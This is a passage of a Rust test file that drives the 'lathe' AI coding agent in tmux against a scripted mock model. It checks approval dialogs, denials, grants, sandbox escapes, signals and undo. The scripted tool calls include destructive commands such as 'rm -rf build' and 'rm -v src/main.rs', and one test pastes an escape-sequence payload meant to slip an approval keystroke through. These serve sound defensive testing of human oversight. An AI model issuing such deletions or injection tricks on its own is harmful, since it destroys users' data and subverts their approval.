//! The real `lathe` binary in a real terminal: tmux runs it against the
//! scripted mock LLM, keys go in with `send-keys`, and the screen comes back
//! with `capture-pane`. Each test waits for what should appear (polling the
//! pane, with a deadline), never for a fixed time.
//!
//! These tests need tmux. Without it they are skipped with a message,
//! unless `LATHE_REQUIRE_TMUX=1` (as `.ci/run` sets) makes that a failure.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::mock_llm;

use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use lathe_test_support::pane::{Pane, have_tmux};

use mock_llm::{MockLlm, Reply, Step, tool_results};
use serde_json::json;

/// The shell line that starts lathe in `ws` against `mock`.
fn lathe_line(mock: &MockLlm, ws: &Path, home: &Path, env: &str, extra_args: &str) -> String {
    format!(
        "cd '{ws}' && env -u NO_COLOR HOME='{home}' LATHE_HOME='{home}' \
         OPENAI_API_KEY=sk-test-key-0123456789 {env} '{bin}' --base-url '{url}' \
         --model mock-model {extra_args}",
        ws = ws.display(),
        home = home.display(),
        bin = env!("CARGO_BIN_EXE_lathe"),
        url = mock.openai_url(),
    )
}

/// Lathe in a pane: started against the mock LLM in a workspace.
trait LathePane: Sized {
    fn start(mock: &MockLlm, ws: &Path, extra_args: &str) -> Self;
    fn start_env(mock: &MockLlm, ws: &Path, env: &str, extra_args: &str) -> Self;
    fn start_home(
        mock: &MockLlm,
        ws: &Path,
        home: tempfile::TempDir,
        env: &str,
        extra_args: &str,
    ) -> Self;
    fn start_in_shell(mock: &MockLlm, ws: &Path) -> Self;
    fn lathe_pid(&self) -> i32;
    fn modes(&self) -> String;
}

impl LathePane for Pane {
    fn start(mock: &MockLlm, ws: &Path, extra_args: &str) -> Self {
        Self::start_env(mock, ws, "", extra_args)
    }

    /// Like [`LathePane::start`], with `env` (`NAME=value …`) set for lathe.
    fn start_env(mock: &MockLlm, ws: &Path, env: &str, extra_args: &str) -> Self {
        Self::start_home(mock, ws, tempfile::tempdir().unwrap(), env, extra_args)
    }

    /// Like [`LathePane::start_env`], in a home prepared beforehand (a config).
    fn start_home(
        mock: &MockLlm,
        ws: &Path,
        home: tempfile::TempDir,
        env: &str,
        extra_args: &str,
    ) -> Self {
        let cmd = format!(
            "{}; echo \"EXIT=$?\"; sleep 600",
            lathe_line(mock, ws, home.path(), env, extra_args)
        );
        Self::open(&cmd, home)
    }

    /// Like [`LathePane::start`], but lathe runs from an interactive bash, so
    /// job control (Ctrl-Z, `fg`) works.
    fn start_in_shell(mock: &MockLlm, ws: &Path) -> Self {
        let home = tempfile::tempdir().unwrap();
        let cmd = lathe_line(mock, ws, home.path(), "", "");
        let pane = Self::open("env PS1='$ ' bash --norc --noprofile -i", home);
        pane.text(&cmd);
        pane.keys(&["Enter"]);
        pane
    }

    /// The pid of the lathe process in the pane.
    fn lathe_pid(&self) -> i32 {
        let shell = self.pane_pid();
        let out = Command::new("pgrep")
            .args(["-P", &shell, "-x", "lathe"])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout)
            .trim()
            .parse()
            .unwrap_or_else(|_| panic!("no lathe under pane pid {shell}"))
    }

    /// `#{alternate_on} #{mouse_any_flag}` of the pane: "0 0" once the
    /// terminal is given back.
    fn modes(&self) -> String {
        self.tmux(&["display-message", "-p", "#{alternate_on} #{mouse_any_flag}"])
            .trim()
            .to_string()
    }
}

/// Longer than the quiet moment after which a dialog takes keys.
async fn pause() {
    tokio::time::sleep(Duration::from_millis(1000)).await;
}

/// A 30-line notes.txt, a model that rewrites two of its lines (2 and 25,
/// two hunks) and then says `done`, and the person's message sent.
async fn two_hunks_asked(done: &str) -> (tempfile::TempDir, MockLlm, Pane) {
    let ws = tempfile::tempdir().unwrap();
    let old: String = (1..=30).map(|i| format!("line {i}\n")).collect();
    std::fs::write(ws.path().join("notes.txt"), &old).unwrap();
    let new = old
        .replace("line 2\n", "line two\n")
        .replace("line 25\n", "line twenty-five\n");
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call(
            "w",
            "write_file",
            json!({"path": "notes.txt", "content": new}),
        )),
        Step::Reply(Reply::text(done)),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("approval ask").await;
    pane.text("spell out two numbers");
    pane.keys(&["Enter"]);
    (ws, mock, pane)
}

/// The dialog's quiet moment, as a person meets it: `y` pressed the
/// moment it appears (not typing before) is dropped with a word and never
/// reaches the message; reviewing hunks with `j`, `x` and answering `y`
/// 0.3 s later needs no pause.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn early_keys_are_dropped_and_review_keys_need_no_pause() {
    if !have_tmux() {
        return;
    }
    let (ws, _mock, pane) = two_hunks_asked("Wrote the first change only.").await;
    pane.wait_for("Approve write_file?").await;
    // A reflex `y y` as it appears: no answer, no text.
    pane.keys(&["y"]);
    tokio::time::sleep(Duration::from_millis(100)).await;
    pane.keys(&["y"]);
    let early = pane.wait_for("reading… keys wait 0.4 s").await;
    assert!(early.contains("Approve write_file?"), "{early}");
    pause().await;
    // Review at a person's pace: next hunk, leave it out, approve.
    for k in ["j", "x", "y"] {
        pane.keys(&[k]);
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    let done = pane.wait_for("Wrote the first change only.").await;
    assert!(!done.contains("a key right after another"), "{done}");
    let written = std::fs::read_to_string(ws.path().join("notes.txt")).unwrap();
    assert!(
        written.contains("line two\n") && written.contains("line 25\n"),
        "{written}"
    );
    // The early keys never became the person's words.
    pane.text("thanks");
    let screen = pane.wait_for("thanks").await;
    assert!(
        !screen.contains("ythanks") && !screen.contains("yythanks"),
        "{screen}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn approve_an_edit_from_the_diff_then_browse_the_log_and_quit() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("hello.py"), "print('helo')\n").unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().say("I'll fix the typo.").call(
            "c1",
            "edit_file",
            json!({"path": "hello.py", "old_text": "print('helo')", "new_text": "print('hello')"}),
        )),
        Step::Reply(Reply::text("Fixed: **hello.py** now prints `hello`.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("approval ask").await;
    pane.text("fix the typo in hello.py");
    pane.keys(&["Enter"]);
    let dialog = pane.wait_for("Approve edit_file?").await;
    assert!(dialog.contains("- print('helo')"), "{dialog}");
    assert!(dialog.contains("+ print('hello')"), "{dialog}");
    // Enter never approves.
    pane.keys(&["Enter"]);
    pause().await;
    assert!(pane.screen().contains("Approve edit_file?"));
    pane.keys(&["y"]);
    let done = pane.wait_for("now prints hello").await;
    assert!(done.contains("✓ edit_file hello.py"), "{done}");
    // The change stays in the transcript.
    assert!(done.contains("┊ -print('helo')"), "{done}");
    assert!(done.contains("┊ +print('hello')"), "{done}");
    assert_eq!(
        std::fs::read_to_string(ws.path().join("hello.py")).unwrap(),
        "print('hello')\n"
    );

    pane.keys(&["C-t"]);
    let log = pane.wait_for("Tool calls (1)").await;
    assert!(
        log.contains("edit_file") && log.contains("approved once"),
        "{log}"
    );
    pane.keys(&["Enter"]);
    // The detail shows the change as a diff, not its raw arguments.
    let detail = pane.wait_for("change:").await;
    assert!(detail.contains("-print('helo')"), "{detail}");
    assert!(detail.contains("+print('hello')"), "{detail}");
    pane.keys(&["Escape"]);
    // A filtered list closes with one Esc, as the whole one does.
    pane.type_slowly("/edit", Duration::from_millis(150)).await;
    pane.keys(&["Enter"]);
    pane.wait_for("1 of 1, filter: edit").await;
    pane.keys(&["Escape"]);
    pane.wait_for("message").await;
    assert!(!pane.screen().contains("Tool calls"));
    // A command typed in the log runs: `/diff` is not a filter.
    pane.keys(&["C-t"]);
    pane.wait_for("Tool calls (1)").await;
    pane.type_slowly("/diff", Duration::from_millis(150)).await;
    pane.wait_for("Enter runs /diff").await;
    pane.keys(&["Enter"]);
    pane.wait_for("diff --git a/hello.py").await;
    pane.keys(&["Escape"]);
    pane.wait_for("message").await;
    pane.text("/quit");
    pane.keys(&["Enter"]);
    let end = pane.wait_for("EXIT=").await;
    assert!(end.contains("EXIT=0"), "{end}");
    // The session's journal and its history were written.
    let sessions = std::fs::read_dir(pane.home.path().join("sessions"))
        .unwrap()
        .count();
    assert_eq!(sessions, 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denial_with_a_message_reaches_the_model() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call("c1", "exec_shell", json!({"command": "rm -rf build"}))),
        Step::Reply(Reply::text("Understood, I will use make clean.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("approval ask").await;
    pane.text("clean the build");
    pane.keys(&["Enter"]);
    pane.wait_for("Approve exec_shell?").await;
    pause().await;
    pane.keys(&["e"]);
    pane.wait_for("instead:").await;
    pane.text("use make clean");
    pane.keys(&["Enter"]);
    let screen = pane.wait_for("I will use make clean").await;
    assert!(screen.contains("⊘ exec_shell rm -rf build"), "{screen}");
    let told = tool_results(&mock.requests()[1]);
    let msg = told[0].1["error"].as_str().unwrap().to_string();
    assert!(msg.contains("use make clean"), "{msg}");
    // Ctrl-C twice on an idle prompt quits with status 0. (The answer
    // shows a moment before the turn ends; a Ctrl-C in that moment stops
    // the turn instead, so it is pressed until the prompt says so.)
    for _ in 0..10 {
        pane.keys(&["C-c"]);
        tokio::time::sleep(Duration::from_millis(300)).await;
        if pane.screen().contains("again to quit") {
            break;
        }
    }
    pane.wait_for("again to quit").await;
    pane.keys(&["C-c"]);
    let end = pane.wait_for("EXIT=").await;
    assert!(end.contains("EXIT=0"), "{end}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn shell_output_streams_live_and_ctrl_c_interrupts_it() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let mock = MockLlm::start(vec![Step::Reply(Reply::tools().call(
        "c1",
        "exec_shell",
        json!({"command": "for i in 1 2 3; do echo step $i; sleep 0.2; done; sleep 30"}),
    ))])
    .await;
    let pane = Pane::start(&mock, ws.path(), "--approval full-auto");
    pane.wait_for("approval full-auto").await;
    pane.text("run it");
    pane.keys(&["Enter"]);
    let live = pane.wait_for("│ step 3").await;
    assert!(live.contains("exec_shell"), "{live}");
    pane.keys(&["C-c"]);
    let stopped = pane.wait_for("interrupted").await;
    assert!(stopped.contains("✗ exec_shell"), "{stopped}");
    pane.text("/quit");
    pane.keys(&["Enter"]);
    assert!(pane.wait_for("EXIT=").await.contains("EXIT=0"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_conversation_grant_never_covers_a_chain_and_permissions_revokes_it() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    std::fs::create_dir(ws.path().join("src")).unwrap();
    std::fs::write(ws.path().join("src/main.rs"), "fn main() {}\n").unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call("c1", "exec_shell", json!({"command": "touch a"}))),
        Step::Reply(Reply::tools().call(
            "c2",
            "exec_shell",
            json!({"command": "ls src && touch b; rm -v src/main.rs"}),
        )),
        Step::Reply(Reply::text("I left the sources alone.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("approval ask").await;
    pane.text("tidy up");
    pane.keys(&["Enter"]);
    let first = pane.wait_for("Approve exec_shell?").await;
    assert!(first.contains("`a` approves `touch` with any"), "{first}");
    pause().await;
    pane.keys(&["a"]);
    pane.wait_for("a again: approve").await;
    pause().await;
    pane.keys(&["a"]);
    // The chain asks again, and names only the part nothing covers.
    let second = pane
        .wait_for("needs approval: run `rm -v src/main.rs`")
        .await;
    assert!(second.contains("Approve exec_shell?"), "{second}");
    pause().await;
    pane.keys(&["n"]);
    pane.wait_for("I left the sources alone").await;
    assert!(ws.path().join("a").exists());
    assert!(!ws.path().join("b").exists());
    assert!(ws.path().join("src/main.rs").exists());

    pane.text("/permissions");
    pane.keys(&["Enter"]);
    let perms = pane.wait_for("conversation grants").await;
    assert!(perms.contains("▸ `touch` with any arguments ("), "{perms}");
    pane.keys(&["d"]);
    let revoked = pane.wait_for("none: `a` in an approval dialog").await;
    assert!(!revoked.contains("▸ `touch`"), "{revoked}");
    pane.keys(&["Escape"]);
    pane.text("/quit");
    pane.keys(&["Enter"]);
    assert!(pane.wait_for("EXIT=").await.contains("EXIT=0"));
}

/// None of the ways a person types, presses Esc, or pastes while a dialog
/// opens approves anything (issue: typing approves; Esc then `y`; a paste
/// with the end marker; a dialog too small to read).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_typed_pasted_or_escaped_by_accident_approves() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let touch = |id: &str, f: &str| {
        Step::Reply(Reply::tools().call(id, "exec_shell", json!({"command": format!("touch {f}")})))
    };
    let mock = MockLlm::start(vec![
        touch("c1", "typed"),
        touch("c2", "escaped"),
        touch("c3", "pasted"),
        Step::Reply(Reply::text("All three were refused.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("approval ask").await;
    pane.text("go");
    pane.keys(&["Enter"]);
    pane.wait_for("Approve exec_shell?").await;
    // 1. Writing at 8 keys a second as the dialog opens: no key, the
    // `a`s and the `y` included, answers; every one lands in the message
    // (nothing typed is lost), and the dialog waits until the writing
    // stops.
    for c in "okay, and maybe also run the linter".chars() {
        pane.text(&c.to_string());
        tokio::time::sleep(Duration::from_millis(125)).await;
    }
    let typed = pane.screen();
    assert!(typed.contains("Approve exec_shell?"), "{typed}");
    assert!(
        typed.contains("okay, and maybe also run the linter"),
        "{typed}"
    );
    assert!(!ws.path().join("typed").exists());
    pause().await;
    pane.keys(&["n"]);
    pane.wait_for("touch escaped").await;
    // 2. Esc and `y` in one go (what tmux sends as Alt-y): a denial, and
    // the `y` lands in the composer.
    pause().await;
    pane.keys(&["Escape", "y"]);
    pane.wait_for("touch pasted").await;
    assert!(!ws.path().join("escaped").exists());
    // 3. A paste carrying the end marker and a `y`.
    pause().await;
    pane.paste("harmless text\x1b[201~y");
    pause().await;
    let screen = pane.screen();
    assert!(screen.contains("Approve exec_shell?"), "{screen}");
    assert!(!ws.path().join("pasted").exists());
    pane.keys(&["n"]);
    pane.wait_for("All three were refused").await;
    for f in ["typed", "escaped", "pasted"] {
        assert!(!ws.path().join(f).exists(), "{f} was approved");
    }
    pane.keys(&["C-u"]);
    pane.text("/log");
    pane.keys(&["Enter"]);
    let log = pane.wait_for("Tool calls (3)").await;
    assert!(log.contains("denied by you"), "{log}");
    pane.keys(&["Escape"]);
    pane.text("/quit");
    pane.keys(&["Enter"]);
    assert!(pane.wait_for("EXIT=").await.contains("EXIT=0"));
}

/// A window too small to show the call shows one line and only denies.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dialog_too_small_to_read_only_denies() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call("c1", "exec_shell", json!({"command": "touch tiny"}))),
        Step::Reply(Reply::text("Refused.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("approval ask").await;
    pane.text("go");
    pane.keys(&["Enter"]);
    pane.wait_for("Approve exec_shell?").await;
    pane.tmux(&["resize-window", "-y", "8"]);
    pane.wait_for("enlarge the window").await;
    pause().await;
    pane.keys(&["y"]);
    pause().await;
    pane.keys(&["a"]);
    pause().await;
    pane.keys(&["a"]);
    pause().await;
    assert!(!ws.path().join("tiny").exists());
    pane.keys(&["n"]);
    pane.tmux(&["resize-window", "-y", "34"]);
    pane.wait_for("Refused.").await;
    assert!(!ws.path().join("tiny").exists());
}

/// Whether any process runs a command line containing `marker`.
fn running(marker: &str) -> bool {
    Command::new("pgrep")
        .args(["-f", marker])
        .output()
        .is_ok_and(|o| o.status.success())
}

/// SIGHUP (the window closed), SIGINT and SIGQUIT end lathe: the running
/// command's processes die, and the terminal is given back.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signals_kill_the_running_command_and_restore_the_terminal() {
    if !have_tmux() {
        return;
    }
    for (signal, number) in [("HUP", 1), ("INT", 2), ("QUIT", 3), ("TERM", 15)] {
        let ws = tempfile::tempdir().unwrap();
        let marker = format!("sleep 3{number}7{}", std::process::id() % 1000);
        let mock = MockLlm::start(vec![Step::Reply(Reply::tools().call(
            "c1",
            "exec_shell",
            json!({"command": format!("{marker} & {marker}; echo never")}),
        ))])
        .await;
        let pane = Pane::start(&mock, ws.path(), "--approval full-auto");
        pane.wait_for("approval full-auto").await;
        pane.text("run it");
        pane.keys(&["Enter"]);
        pane.wait_for("exec_shell").await;
        let deadline = Instant::now() + Duration::from_secs(10);
        while !running(&marker) {
            assert!(Instant::now() < deadline, "the command never started");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert_eq!(pane.modes(), "1 1", "the UI holds the terminal");
        let pid = pane.lathe_pid();
        Command::new("kill")
            .args([&format!("-{signal}"), &pid.to_string()])
            .status()
            .unwrap();
        let end = pane.wait_for("EXIT=").await;
        assert!(
            end.contains(&format!("EXIT={}", 128 + number)),
            "{signal}: {end}"
        );
        assert_eq!(pane.modes(), "0 0", "{signal}: the terminal was given back");
        let deadline = Instant::now() + Duration::from_secs(5);
        while running(&marker) {
            assert!(
                Instant::now() < deadline,
                "{signal}: the command outlived lathe"
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

/// Ctrl-Z gives the terminal back and stops lathe; `fg` brings it back,
/// redrawn and taking keys.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ctrl_z_suspends_and_fg_resumes() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let mock = MockLlm::start(vec![Step::Reply(Reply::text("Back again."))]).await;
    let pane = Pane::start_in_shell(&mock, ws.path());
    pane.wait_for("approval ask").await;
    pane.keys(&["C-z"]);
    let stopped = pane.wait_for("Stopped").await;
    assert!(stopped.contains("lathe"), "{stopped}");
    assert_eq!(pane.modes(), "0 0");
    pane.text("fg");
    pane.keys(&["Enter"]);
    pane.wait_for("approval ask").await;
    assert_eq!(pane.modes(), "1 1");
    pane.text("hello again");
    pane.keys(&["Enter"]);
    pane.wait_for("Back again.").await;
    pane.text("/quit");
    pane.keys(&["Enter"]);
    let deadline = Instant::now() + Duration::from_secs(10);
    while pane.modes() != "0 0" {
        assert!(
            Instant::now() < deadline,
            "lathe never gave the terminal back"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    pane.text("echo \"EXIT=$?\"");
    pane.keys(&["Enter"]);
    pane.wait_for("EXIT=0").await;
}

/// A terminal that cannot draw the UI gets a clear refusal that points to
/// `lathe exec`; an 8-colour `xterm` gets no 24-bit colour.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn terminals_get_what_they_can_show() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let mock = MockLlm::start(vec![]).await;
    let pane = Pane::start_env(&mock, ws.path(), "TERM=dumb", "");
    let screen = pane.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=2"), "{screen}");
    assert!(
        screen.contains("TERM=dumb") && screen.contains("lathe exec"),
        "{screen}"
    );

    // tmux writes every palette colour as `38;5;N`, the 16 ANSI ones too.
    let palette_beyond_16 = |styled: &str| {
        styled.split(";5;").skip(1).any(|rest| {
            let n: String = rest.chars().take_while(char::is_ascii_digit).collect();
            n.parse::<u16>().is_ok_and(|n| n >= 16)
        })
    };
    for (env, rgb, palette) in [
        ("TERM=xterm COLORTERM=", false, false),
        ("TERM=xterm-256color COLORTERM=", false, true),
        ("TERM=xterm-256color COLORTERM=truecolor", true, false),
    ] {
        let pane = Pane::start_env(&mock, ws.path(), env, "");
        pane.wait_for("approval ask").await;
        let styled = pane.tmux(&["capture-pane", "-e", "-p"]);
        assert_eq!(styled.contains(";2;"), rgb, "{env}: {styled}");
        assert_eq!(palette_beyond_16(&styled), palette, "{env}: {styled}");
    }
}

/// A command the sandbox stopped: the person is asked, a second time,
/// whether to run it outside, and only a yes runs it there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_command_the_sandbox_stopped_can_run_outside_on_a_second_yes() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let out = crate::places::outside("lathe-tui-outside-");
    let target = out.path().join("written.txt");
    std::fs::write(
        ws.path().join("write.sh"),
        format!("echo hi > '{}'\n", target.display()),
    )
    .unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call("c1", "exec_shell", json!({"command": "bash write.sh"}))),
        Step::Reply(Reply::text("The script ran.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "--approval full-auto");
    pane.wait_for("full-auto").await;
    pane.text("run write.sh");
    pane.keys(&["Enter"]);
    let dialog = pane.wait_for("run it again outside the sandbox").await;
    assert!(dialog.contains("Approve exec_shell?"), "{dialog}");
    assert!(!target.exists(), "the sandboxed run wrote nothing");
    assert!(
        !dialog.contains("`a` approves"),
        "no grant covers it: {dialog}"
    );
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("The script ran.").await;
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "hi\n");
    let told = tool_results(&mock.requests()[1]);
    assert!(
        told[0].1["note"]
            .as_str()
            .unwrap_or_default()
            .contains("outside the sandbox"),
        "{told:?}"
    );
}

/// A person adds a server to `.mcp.json`, approves it, sees its tools in
/// `/mcp`, and uses one in a conversation through the approval dialog.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workspace_mcp_server_is_trusted_listed_and_used() {
    if !have_tmux() {
        return;
    }
    let server = lathe_test_support::mcp_server::bin();
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(
        ws.path().join(".mcp.json"),
        json!({"mcpServers": {"repo": {"command": server}}}).to_string(),
    )
    .unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call(
            "c1",
            "repo__echo",
            json!({"message": "from the tmux test"}),
        )),
        Step::Reply(Reply::text("The server echoed it.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "");
    pane.wait_for("Start this workspace's MCP servers?").await;
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("trusted").await;
    // `/mcp` says how things are when asked: asked until the server is up.
    let mut listed = String::new();
    for _ in 0..20 {
        pane.text("/mcp");
        pane.keys(&["Enter"]);
        tokio::time::sleep(Duration::from_millis(300)).await;
        listed = pane.screen();
        if listed.contains("repo (ready)") {
            break;
        }
    }
    assert!(listed.contains("repo (ready)"), "{listed}");
    assert!(listed.contains("repo__echo"), "{listed}");
    pane.text("echo something through the server");
    pane.keys(&["Enter"]);
    let dialog = pane.wait_for("Approve repo__echo?").await;
    assert!(dialog.contains("call echo on MCP server repo"), "{dialog}");
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("The server echoed it.").await;
    let told = tool_results(&mock.requests()[1]);
    assert!(
        told[0].1.to_string().contains("Echo: from the tmux test"),
        "{told:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_comes_back_with_its_transcript_and_up_remembers_the_last_run() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call("c1", "read_file", json!({"path": "notes.txt"}))),
        Step::Reply(Reply::text("The notes say **remember the milk**.")),
        Step::Reply(Reply::text("You asked about the notes.")),
        Step::Reply(Reply::text("Picked up again.")),
    ])
    .await;
    std::fs::write(ws.path().join("notes.txt"), "remember the milk\n").unwrap();
    let first = Pane::start(&mock, ws.path(), "");
    let home = first.home.path().to_path_buf();
    first.wait_for("approval ask").await;
    first.text("what do the notes say");
    first.keys(&["Enter"]);
    first.wait_for("remember the milk.").await;
    first.text("/quit");
    first.keys(&["Enter"]);
    let end = first.wait_for("EXIT=").await;
    assert!(end.contains("EXIT=0"), "{end}");
    // The terminal keeps the session's id and how to come back.
    let hint = end
        .lines()
        .find(|l| l.contains("Resume it with: lathe resume "))
        .unwrap_or_else(|| panic!("no resume hint:\n{end}"));
    let id = hint.rsplit(' ').next().unwrap().trim().to_string();
    assert!(id.len() >= 8, "{hint}");

    // `lathe --continue`: the transcript is back, the conversation goes on.
    let again = Pane::open(
        &format!(
            "{}; echo \"EXIT=$?\"; sleep 600",
            lathe_line(&mock, ws.path(), &home, "", "--continue")
        ),
        tempfile::tempdir().unwrap(),
    );
    let screen = again.wait_for("resumed session").await;
    assert!(screen.contains("› what do the notes say"), "{screen}");
    assert!(screen.contains("✓ read_file notes.txt"), "{screen}");
    assert!(screen.contains("remember the milk."), "{screen}");
    // The log is the audit record: the earlier run's call is in it.
    again.keys(&["C-t"]);
    let log = again.wait_for("Tool calls (1)").await;
    assert!(
        log.contains("read_file") && log.contains("earlier"),
        "{log}"
    );
    again.keys(&["Escape"]);
    again.wait_for("resumed session").await;
    // Up brings back the message of the last run.
    again.keys(&["Up"]);
    again.wait_for("│what do the notes say").await;
    again.keys(&["C-c"]);
    again.text("what did I ask?");
    again.keys(&["Enter"]);
    again.wait_for("You asked about the notes.").await;
    let req = &mock.requests()[2];
    let messages = req.body["messages"].as_array().unwrap();
    let users: Vec<&str> = messages
        .iter()
        .filter(|m| m["role"] == "user")
        .filter_map(|m| m["content"].as_str())
        .collect();
    assert_eq!(
        users,
        ["what do the notes say", "what did I ask?"],
        "{req:?}"
    );
    assert!(
        messages.iter().any(|m| m["role"] == "tool"),
        "the tool result is sent again: {messages:?}"
    );
    again.text("/quit");
    again.keys(&["Enter"]);
    assert!(again.wait_for("EXIT=").await.contains(&id));

    // `lathe resume`: a list to choose from; Enter opens the session.
    let pick = Pane::open(
        &format!(
            "{}; echo \"EXIT=$?\"; sleep 600",
            lathe_line(&mock, ws.path(), &home, "", "resume")
        ),
        tempfile::tempdir().unwrap(),
    );
    let list = pick.wait_for("Resume a session").await;
    assert!(list.contains("what do the notes say"), "{list}");
    assert!(list.contains("2 turns"), "{list}");
    pick.keys(&["Enter"]);
    pick.wait_for("resumed session").await;
    pick.text("once more");
    pick.keys(&["Enter"]);
    pick.wait_for("Picked up again.").await;
    pick.text("/quit");
    pick.keys(&["Enter"]);
    assert!(pick.wait_for("EXIT=").await.contains(&id));

    // An unknown id is a usage error naming it.
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "{} 2>&1; echo EXIT=$?",
            lathe_line(&mock, ws.path(), &home, "", "resume no-such-session")
        ))
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.contains("no session `no-such-session`") && out.contains("EXIT=2"),
        "{out}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn at_the_tool_round_limit_the_person_lets_the_turn_go_on() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call("a", "list_dir", json!({"path": "."}))),
        Step::Reply(Reply::tools().call("b", "list_dir", json!({"path": "."}))),
        Step::Reply(Reply::text("Looked twice; all is well.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "--max-tool-iterations 1");
    pane.wait_for("approval ask").await;
    pane.text("look around");
    pane.keys(&["Enter"]);
    let asked = pane.wait_for("Keep going?").await;
    assert!(asked.contains("used 1 tool round in"), "{asked}");
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("Looked twice; all is well.").await;
    assert_eq!(mock.requests().len(), 3);
    pane.text("/quit");
    pane.keys(&["Enter"]);
    assert!(pane.wait_for("EXIT=").await.contains("EXIT=0"));
}

/// A turn edits a file and makes another; `/undo` puts both back, and
/// `/rewind` lists the turn, in a real terminal.
#[tokio::test]
async fn undo_puts_back_what_the_last_turn_changed() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("notes.txt"), "remember the milk\n").unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(
            Reply::tools()
                .call(
                    "e",
                    "edit_file",
                    json!({"path": "notes.txt", "old_text": "milk", "new_text": "eggs"}),
                )
                .call(
                    "w",
                    "write_file",
                    json!({"path": "todo.txt", "content": "buy eggs\n"}),
                ),
        ),
        Step::Reply(Reply::text("Changed the notes and wrote a todo.")),
    ])
    .await;
    let pane = Pane::start(&mock, ws.path(), "--approval full-auto");
    pane.wait_for("approval full-auto").await;
    pane.text("switch milk to eggs");
    pane.keys(&["Enter"]);
    pane.wait_for("wrote a todo.").await;
    assert_eq!(
        std::fs::read_to_string(ws.path().join("notes.txt")).unwrap(),
        "remember the eggs\n"
    );
    // `/diff`: the session's changes, on a page of their own.
    pane.text("/diff");
    pane.keys(&["Enter"]);
    // (The page opens with "reading the changes…" until they come.)
    let page = pane.wait_for("diff --git a/notes.txt").await;
    assert!(page.contains("Changes since the session began"), "{page}");
    assert!(page.contains("-remember the milk"), "{page}");
    assert!(page.contains("+remember the eggs"), "{page}");
    assert!(page.contains("+buy eggs"), "{page}");
    pane.keys(&["Escape"]);
    pane.text("/undo");
    pane.keys(&["Enter"]);
    // What it will do, first; read, then `y`.
    let asked = pane.wait_for("Undo turn 1?").await;
    assert!(asked.contains("Puts back: notes.txt"), "{asked}");
    assert!(
        asked.contains("Removes (the turn made them): todo.txt"),
        "{asked}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.path().join("notes.txt")).unwrap(),
        "remember the eggs\n",
        "nothing put back before the answer"
    );
    tokio::time::sleep(Duration::from_millis(1200)).await;
